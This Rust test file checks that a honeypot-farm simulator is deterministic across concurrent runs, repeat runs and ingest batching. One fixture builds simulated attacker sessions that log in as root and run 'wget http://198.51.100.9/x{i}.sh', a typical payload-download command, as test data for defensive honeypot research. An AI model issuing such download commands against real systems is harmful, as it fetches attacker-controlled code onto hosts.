//! Determinism, proven with the testkit's differential oracles: a run must
//! be bit-identical to another run of the same config — same session rows
//! in the same order, same digest universe, same artifact metadata, same
//! tag database — whether it ran alone or beside other runs in the same
//! process, and the collector must be invariant to ingest batching. On
//! divergence the oracle names the exact field (`rows[i].client_port: 2 !=
//! 999`) instead of failing on an opaque struct comparison.

use honeyfarm::prelude::*;
use honeyfarm::testkit::{assert_outputs_identical, diff_sim_outputs};

fn run() -> SimOutput {
    Simulation::run(SimConfig::test(8))
}

/// Runs in one process share its statics (the SHA-256 backend choice) and,
/// per thread, the shell's `SessionScratch` pool and seeded-VFS memo. 2, 4
/// and 8 runs at once, each on its own scoped thread, must each equal a run
/// made alone.
#[test]
fn thread_counts_bit_identical() {
    let alone = run();
    assert!(alone.dataset.len() > 100, "fixture must be non-trivial");
    for n in [2usize, 4, 8] {
        let concurrent: Vec<SimOutput> = std::thread::scope(|s| {
            let runs: Vec<_> = (0..n).map(|_| s.spawn(run)).collect();
            runs.into_iter()
                .map(|h| h.join().expect("concurrent run"))
                .collect()
        });
        for (i, out) in concurrent.iter().enumerate() {
            assert_outputs_identical("alone", &alone, &format!("run {i} of {n} at once"), out);
        }
    }
}

#[test]
fn repeat_runs_bit_identical() {
    // Same config, fresh process state: the engine has no hidden
    // nondeterminism (hash-map iteration, time, &c.).
    let report = diff_sim_outputs("first", &run(), "second", &run());
    assert!(report.is_identical(), "{}", report.render());
}

#[test]
fn collector_invariant_to_ingest_batching() {
    // Replay a spread of scenarios into session records, then collect them
    // one-by-one and in uneven chunks; the resulting dataset must be
    // identical either way.
    use honeyfarm::geo::{World, WorldConfig};
    use honeyfarm::testkit::{diff_datasets, Scenario};

    let mut records = Vec::new();
    for i in 0..24u32 {
        let text = format!(
            "name batch-{i}\nprotocol {}\nhoneypot {}\nclient 203.0.113.{}\nport {}\n\
             login root pw{i}\ncmd uname -a\ncmd wget http://198.51.100.9/x{i}.sh\nclose\n",
            if i % 3 == 0 { "telnet" } else { "ssh" },
            i % 5,
            (i % 200) + 1,
            40_000 + i as u16,
        );
        records.push(Scenario::parse(&text).expect("scenario").replay());
    }

    let world = World::build(1, &WorldConfig::tiny());
    let collect = |chunks: &[usize]| {
        let mut c = Collector::new(&world, FarmPlan::paper());
        let mut i = 0usize;
        let mut sizes = chunks.iter().cycle();
        while i < records.len() {
            let n = (*sizes.next().unwrap()).min(records.len() - i).max(1);
            c.ingest_batch(&records[i..i + n]);
            i += n;
        }
        c.finish()
    };

    let one_by_one = collect(&[1]);
    let uneven = collect(&[3, 1, 16, 7, 2]);
    let report = diff_datasets("one-by-one", &one_by_one, "uneven", &uneven);
    assert!(report.is_identical(), "{}", report.render());
}
